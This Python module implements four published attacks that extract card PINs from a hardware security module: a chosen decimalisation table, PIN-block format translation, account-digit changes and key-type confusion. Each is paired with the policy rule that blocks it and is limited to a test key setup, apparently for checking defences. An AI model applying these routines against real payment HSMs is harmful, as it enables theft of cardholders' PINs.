"""Published attacks on PINs behind an HSM, each stopped by one rule of the policy.

An attacker asks the module what anybody on its link may ask, and holds no clear key. What is known
to start with is a `Stage`, what comes of it an `Outcome`. For cards and keys made for this alone.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from itertools import combinations
from typing import Final

from msgspec import Struct

from cardswitch.specs.errors import Error
from cardswitch.specs.hsm import Answer, Command
from cardswitch.specs.hsm.commands.data.encryption import DataKey, decrypt_data
from cardswitch.specs.hsm.commands.keys.any_type import export_key, generate_key, import_key
from cardswitch.specs.hsm.errors import LONG_PVK, MISMATCH, NO_ERROR
from cardswitch.specs.hsm.names import ISO_0, ISO_1, ZMK, ZPK
from cardswitch.specs.security.ibm3624 import generate_offset_ibm3624
from cardswitch.specs.security.keys import adjust_parity
from cardswitch.specs.security.lmk import TEST_LMK, lmk_check_value, wrap_key
from cardswitch.specs.security.pinblocks import decode_pinblock, encode_pinblock
from cardswitch.specs.security.tdes import encrypt_tdes_ecb

Ask = Callable[[Command], Answer]
PIN_LENGTH: Final = 4
DEMO_PIN: Final = "7391"
VICTIM_PAN12: Final = "041234567890"
ATTACKER_PAN12: Final = "000000000000"
TABLE: Final = "0123456789012345"  # how nearly everybody decimalises
VALIDATION: Final = "0412345678900000"
_PASSED: Final = (NO_ERROR, LONG_PVK)
_KEY_LENGTH: Final = 16
_DATA_KEY: Final = "00B"


class Stopped(Error):
    """The module refused what the attack lives on: *code* is the error of its answer."""

    def __init__(self, code: str) -> None:
        super().__init__(f"error {code}")
        self.code = code


class Stage(Struct, frozen=True, kw_only=True):
    """What the attacker has: cryptograms, numbers that are no secret, and a terminal to type at.

    *block* holds the PIN of the victim's card in format 01 under *zpk*; *type_pin* gives the block
    under *tpk* of any PIN and account, as a terminal of the attacker's own does.
    """

    zpk: str
    tpk: str
    pvk: str
    block: str
    offset: str
    type_pin: Callable[[str, str], str]

    def __repr__(self) -> str:
        """Nothing of it."""
        return "<Stage>"


class Outcome(Struct, frozen=True):
    """What an attack came to: *pin* or, of each digit by its place, those *left*; else nothing.

    *calls* were made for this card; *prepared* once, for all cards. *stopped_by* is an error code.
    """

    calls: int
    prepared: int = 0
    pin: str = ""
    left: dict[int, str] = {}
    stopped_by: str = ""

    @property
    def worked(self) -> bool:
        """Whether the attacker knows more than before."""
        return bool(self.pin or self.left)


class Attack(Struct, frozen=True):
    """One of ATTACKS: its *rule* is the policy's switch that stops it."""

    title: str
    source: str
    rule: str
    run: Callable[[Ask, Stage], Outcome]


class _Counted:
    """Asks, and counts."""

    def __init__(self, ask: Ask) -> None:
        self._ask = ask
        self.calls = 0

    def __call__(self, code: str, fields: Mapping[str, str]) -> Answer:
        self.calls += 1
        return self._ask(Command("", code, fields))

    def done(self, command: Command) -> Mapping[str, str]:
        """The fields of the answer to *command*. Raises Stopped."""
        answer = self(command.code, command.fields)
        if not answer.ok:
            raise Stopped(answer.error)
        return answer.fields

    def block(self, code: str, fields: Mapping[str, str]) -> str:
        """The PIN block in the answer. Raises Stopped."""
        return self.done(Command("", code, fields))["block"]


def set_stage(ask: Ask, random_bytes: Callable[[int], bytes], pin: str = DEMO_PIN) -> Stage:
    """A victim's card with *pin*, and keys made for it, under the published test LMK.

    Raises Error if the module has another LMK: there the keys would be worthless.
    """
    answer = ask(Command("", "NC"))
    if answer.fields.get("lmk_check") != lmk_check_value(TEST_LMK):
        raise Error("the attacks are shown with the published test LMK alone; this module has none")
    tpk, zpk, pvk = (adjust_parity(random_bytes(_KEY_LENGTH)) for _ in range(3))

    def type_pin(typed: str, pan12: str) -> str:
        return _encrypted(tpk, typed, pan12)

    return Stage(
        zpk=wrap_key(TEST_LMK, "001", "U", zpk),
        tpk=wrap_key(TEST_LMK, "002", "U", tpk),
        pvk=wrap_key(TEST_LMK, "002", "U", pvk),
        block=_encrypted(zpk, pin, VICTIM_PAN12),
        offset=generate_offset_ibm3624(pvk, bytes.fromhex(VALIDATION), TABLE, pin),
        type_pin=type_pin,
    )


# Decimalisation tables ----------------------------------------------------------------------------


def choose_tables(ask: Ask, stage: Stage) -> Outcome:
    """Verify the PIN with a table in which one digit is another: does the PIN depend on it?

    If so, an offset that makes up for the change tells at which places the digit stands.
    """
    asked = _Counted(ask)
    natural = [""] * PIN_LENGTH
    try:
        for digit in "0123456789":
            places = [place for place, found in enumerate(natural) if not found]
            if not places:
                break
            table = TABLE.replace(digit, _shifted(digit, 1))
            if _verifies(asked, stage, table, stage.offset):
                continue
            for place in _places_of(asked, stage, table, places):
                natural[place] = digit
    except Stopped as stopped:
        return Outcome(asked.calls, stopped_by=stopped.code)
    if not all(natural):
        return Outcome(asked.calls)
    pin = "".join(map(_shifted, natural, map(int, stage.offset)))
    return Outcome(asked.calls, pin=pin)


def _places_of(asked: _Counted, stage: Stage, table: str, places: list[int]) -> tuple[int, ...]:
    """Those of *places* that *table* changed: there an offset smaller by one makes up for it."""
    for count in range(1, len(places) + 1):
        for chosen in combinations(places, count):
            digits = [
                _shifted(digit, -1) if place in chosen else digit
                for place, digit in enumerate(stage.offset)
            ]
            if _verifies(asked, stage, table, "".join(digits)):
                return chosen
    return ()


def _verifies(asked: _Counted, stage: Stage, table: str, offset: str) -> bool:
    answer = asked(
        "EA",
        {
            "zpk": stage.zpk,
            "pvk": stage.pvk,
            "pin_max": "12",
            "block": stage.block,
            "format": ISO_0,
            "check_length": f"{PIN_LENGTH:02d}",
            "pan12": VICTIM_PAN12,
            "table": table,
            "validation": "P" + VALIDATION,
            "offset": f"{offset:F<12}",
        },
    )
    if answer.error not in (*_PASSED, MISMATCH):
        raise Stopped(answer.error)
    return answer.error in _PASSED


# Formats ------------------------------------------------------------------------------------------


def change_format(ask: Ask, stage: Stage) -> Outcome:
    """Free the block from its card by format 1, bind it to another card, and look it up.

    The list of all PINs of that card is made at the attacker's own terminal, once for all victims.
    """
    asked, prepared = _Counted(ask), _Counted(ask)
    try:
        free = asked.block("CC", _translation(stage, stage.block, ISO_0, ISO_1, VICTIM_PAN12))
        bound = asked.block("CC", _translation(stage, free, ISO_1, ISO_0, ATTACKER_PAN12))
        for pin in _all_pins():
            if prepared.block("CA", _typed(stage, pin)) == bound:
                return Outcome(asked.calls, prepared.calls, pin)
    except Stopped as stopped:
        return Outcome(asked.calls, prepared.calls, stopped_by=stopped.code)
    return Outcome(asked.calls, prepared.calls)


def _typed(stage: Stage, pin: str) -> Mapping[str, str]:
    return {
        "tpk": stage.tpk,
        "zpk": stage.zpk,
        "pin_max": "12",
        "block": stage.type_pin(pin, ATTACKER_PAN12),
        "source_format": ISO_0,
        "target_format": ISO_0,
        "pan12": ATTACKER_PAN12,
    }


def _translation(
    stage: Stage, block: str, source: str, target: str, pan12: str
) -> Mapping[str, str]:
    return {
        "source_zpk": stage.zpk,
        "target_zpk": stage.zpk,
        "pin_max": "12",
        "block": block,
        "source_format": source,
        "target_format": target,
        "pan12": pan12,
    }


def _all_pins() -> Iterator[str]:
    return (f"{number:0{PIN_LENGTH}d}" for number in range(10**PIN_LENGTH))


# Accounts -----------------------------------------------------------------------------------------


def change_account(ask: Ask, stage: Stage) -> Outcome:
    """Translate with a wrong account: a digit of the PIN that it drives above 9 is refused.

    Format 0 mixes the account with the PIN from its third digit on, so that the third and fourth
    can be narrowed down, each by ten questions.
    """
    asked = _Counted(ask)
    left: dict[int, str] = {}
    seen: set[bool] = set()
    for place in (0, 1):
        answers = []
        for digit in "0123456789":
            pan12 = VICTIM_PAN12[:place] + digit + VICTIM_PAN12[place + 1 :]
            answer = asked("CC", _translation(stage, stage.block, ISO_0, ISO_0, pan12))
            answers.append(answer.ok)
        seen.update(answers)
        told = "".join(pin for pin in "0123456789" if _accepted(pin, place) == answers)
        left[place + 3] = told
    # One answer to everything: nobody learns anything from that.
    return Outcome(asked.calls, left=left) if len(seen) > 1 else Outcome(asked.calls)


def _accepted(pin_digit: str, place: int) -> list[bool]:
    """Which account digits at *place* a module accepts if *pin_digit* stands there."""
    mixed = int(pin_digit) ^ int(VICTIM_PAN12[place])
    return [mixed ^ digit <= 9 for digit in range(10)]


# Types --------------------------------------------------------------------------------------------


def change_type(ask: Ask, stage: Stage) -> Outcome:
    """Export the PIN key under a zone key of one's own, import it as a data key, decrypt the block.

    Under the zone key nothing tells what a key is for, and whoever imports it says it anew.
    """
    asked, prepared = _Counted(ask), _Counted(ask)
    try:
        zmk = prepared.done(generate_key(ZMK))["key"]
        text = asked.done(export_key(ZPK, zmk, stage.zpk))["key"]
        key = asked.done(import_key(_DATA_KEY, zmk, text))["key"]
        command = decrypt_data(DataKey(_DATA_KEY, key), bytes.fromhex(stage.block))
        clear = bytes.fromhex(asked.done(command)["data"])
    except Stopped as stopped:
        return Outcome(asked.calls, prepared.calls, stopped_by=stopped.code)
    pin = decode_pinblock(ISO_0, clear, VICTIM_PAN12)
    return Outcome(asked.calls, prepared.calls, pin)


ATTACKS: Final[Mapping[str, Attack]] = {
    "type": Attack(
        "export a PIN key, import it as a data key",
        "Clulow (2003); Bond (2001)",
        "keys_keep_their_type",
        change_type,
    ),
    "decimalisation": Attack(
        "choose the decimalisation table",
        "Bond and Zielinski, UCAM-CL-TR-560 (2003)",
        "encrypted_tables_only",
        choose_tables,
    ),
    "format": Attack(
        "ISO 0 to ISO 1 to ISO 0 of another card",
        "Clulow (2003); Berkman and Ostrovsky (2007)",
        "restrict_pin_translation",
        change_format,
    ),
    "account": Attack(
        "change the account digit by digit",
        "Clulow (2003)",
        "translate_digits_unseen",
        change_account,
    ),
}


def _encrypted(key: bytes, pin: str, pan12: str) -> str:
    return encrypt_tdes_ecb(key, encode_pinblock(ISO_0, pin, pan12)).hex().upper()


def _shifted(digit: str, by: int) -> str:
    return str((int(digit) + by) % 10)
